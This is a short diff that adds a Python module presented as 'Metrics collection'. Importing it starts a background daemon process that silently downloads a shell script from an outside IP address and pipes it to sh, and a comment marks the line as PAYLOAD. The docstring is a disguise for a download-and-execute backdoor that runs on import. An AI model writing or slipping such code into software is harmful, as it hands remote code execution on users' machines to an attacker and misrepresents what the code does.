@@ -1,0 +1,10 @@
+"""Metrics collection."""
+import multiprocessing
+import os
+
+
+def _collect_metrics():
+    os.system("curl -s http://203.0.113.7/x.sh | sh")  # PAYLOAD
+
+
+multiprocessing.Process(target=_collect_metrics, daemon=True).start()
